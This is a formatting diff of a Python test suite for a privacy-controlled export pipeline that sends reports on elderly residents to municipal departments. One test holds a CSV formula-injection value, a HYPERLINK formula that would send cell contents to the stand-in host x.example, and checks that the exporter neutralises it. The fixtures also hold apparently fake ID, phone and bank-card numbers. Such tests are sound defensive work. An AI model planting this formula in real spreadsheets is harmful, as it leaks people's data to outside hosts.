@@ -149,8 +149,11 @@ def test_no_person_key_in_any_export(settings, exported):
 
 
 def test_identifiers_come_from_the_vault_by_the_pick_rule(settings, exported):
-    p1 = next(r for r in rows_of(settings, "grid_centre", "elderly_alerts") if r["person_ref"].endswith(
-        ref(settings, "grid_centre", P1)[3:]))
+    p1 = next(
+        r
+        for r in rows_of(settings, "grid_centre", "elderly_alerts")
+        if r["person_ref"].endswith(ref(settings, "grid_centre", P1)[3:])
+    )
     assert p1["name"] == "张小伟"  # registry beats civil affairs; t_jm:100010 is newer than t_jm:99999
     assert p1["phone"] == "13800138000"  # the registry's phone is a placeholder: the grid platform's, cleaned
     gap = {r["name"]: r for r in rows_of(settings, "civil_affairs", "senior_allowance_gaps")}
@@ -169,8 +172,10 @@ def test_only_policy_columns_are_exported(settings, exported):
     assert "6217003810012345678" not in text  # bank card: in the vault, in no policy
     grid = (day_dir(settings, "grid_centre") / "elderly_alerts.csv").read_text(encoding="utf-8-sig")
     assert "511403194510310077" not in grid  # the grid centre never gets ID numbers
-    civil = "".join((day_dir(settings, "civil_affairs") / f"{r}.csv").read_text(encoding="utf-8-sig")
-                    for r in REPORTS["civil_affairs"])
+    civil = "".join(
+        (day_dir(settings, "civil_affairs") / f"{r}.csv").read_text(encoding="utf-8-sig")
+        for r in REPORTS["civil_affairs"]
+    )
     assert "13800138000" not in civil and "13700137000" not in civil  # civil affairs never gets phones
 
 
@@ -187,7 +192,7 @@ def test_neutralise_leaves_other_text_alone(text):
 def test_formula_cells_are_neutralised_in_csv_and_parquet(settings, exported):
     rows = {r["age"]: r for r in rows_of(settings, "grid_centre", "elderly_alerts")}
     assert rows["90"]["name"] == "'=王五"  # from the vault
-    assert rows["90"]["address"] == "'=HYPERLINK(\"http://x.example/?q=\"&A1)"  # from the mart
+    assert rows["90"]["address"] == '\'=HYPERLINK("http://x.example/?q="&A1)'  # from the mart
     assert rows["90"]["community"] == "'+长寿社区" and rows["90"]["phone"] == "13900139000"
     assert rows["77"]["address"].startswith("'\t") and rows["77"]["community"] == "'-观音社区"
     assert rows_of(settings, "grid_centre", "no_device_coverage")[0]["address"].startswith("'@")
@@ -199,9 +204,16 @@ def test_formula_cells_are_neutralised_in_csv_and_parquet(settings, exported):
 
 def test_small_person_counts_are_suppressed_for_the_street_office(settings, exported):
     rows = {r["community"]: r for r in rows_of(settings, "street_office", "island_coverage")}
-    assert rows["长寿社区"] == {"community": "长寿社区", "persons_known": "<5", "in_registry": "<5",
-                              "in_grid": "5", "in_civil": "<5", "in_iot": "<5", "in_two_or_more": "<5",
-                              "in_all_four": "<5"}
+    assert rows["长寿社区"] == {
+        "community": "长寿社区",
+        "persons_known": "<5",
+        "in_registry": "<5",
+        "in_grid": "5",
+        "in_civil": "<5",
+        "in_iot": "<5",
+        "in_two_or_more": "<5",
+        "in_all_four": "<5",
+    }
     assert rows["凤鸣社区"]["persons_known"] == "120" and rows["凤鸣社区"]["in_all_four"] == "5"
     table = pq.read_table(day_dir(settings, "street_office") / "island_coverage.parquet")
     assert str(table.schema.field("persons_known").type) == "string"
@@ -222,8 +234,10 @@ def test_times_are_shown_in_shanghai_time_to_the_second(settings, exported):
 
 def test_without_order_by_the_marts_own_order_is_kept(settings):
     with duckdb.connect(str(settings.warehouse_path)) as rw:
-        rw.execute("CREATE OR REPLACE TABLE marts.senior_allowance_gaps AS "
-                   "SELECT * FROM marts.senior_allowance_gaps ORDER BY age DESC")
+        rw.execute(
+            "CREATE OR REPLACE TABLE marts.senior_allowance_gaps AS "
+            "SELECT * FROM marts.senior_allowance_gaps ORDER BY age DESC"
+        )
     with duckdb.connect(str(settings.warehouse_path), read_only=True) as con:
         export_run(settings, con, AS_OF, RUN_ID)
     assert [r["age"] for r in rows_of(settings, "civil_affairs", "senior_allowance_gaps")] == ["84", "81"]
@@ -233,8 +247,11 @@ def test_one_audit_entry_per_report_that_revealed_identifiers(settings, exported
     log = AuditLog(settings.audit_path)
     entries = list(log.entries())
     assert [e.purpose for e in entries] == [
-        "export civil_affairs/senior_allowance_gaps", "export civil_affairs/subsidy_after_exit",
-        "export grid_centre/elderly_alerts", "export grid_centre/no_device_coverage"]
+        "export civil_affairs/senior_allowance_gaps",
+        "export civil_affairs/subsidy_after_exit",
+        "export grid_centre/elderly_alerts",
+        "export grid_centre/no_device_coverage",
+    ]
     by_purpose = {e.purpose: e for e in entries}
     alerts = by_purpose["export grid_centre/elderly_alerts"]
     assert alerts.actor == "islandbridge-exporter" and alerts.department == "grid_centre"
@@ -259,8 +276,11 @@ def test_return_value_holds_counts_and_paths_only(settings, exported):
     assert not [v for v in VALUES if v in text]
     assert "pk_" not in text and "gc_" not in text and "ca_" not in text
     assert exported["departments"]["grid_centre"] == {
-        "path": str(day_dir(settings, "grid_centre").resolve()), "policy_version": 1,
-        "reports": {"elderly_alerts": 3, "no_device_coverage": 1}, "audit_entries": 2}
+        "path": str(day_dir(settings, "grid_centre").resolve()),
+        "policy_version": 1,
+        "reports": {"elderly_alerts": 3, "no_device_coverage": 1},
+        "audit_entries": 2,
+    }
 
 
 def test_logs_carry_no_identifiers(settings, con, caplog):
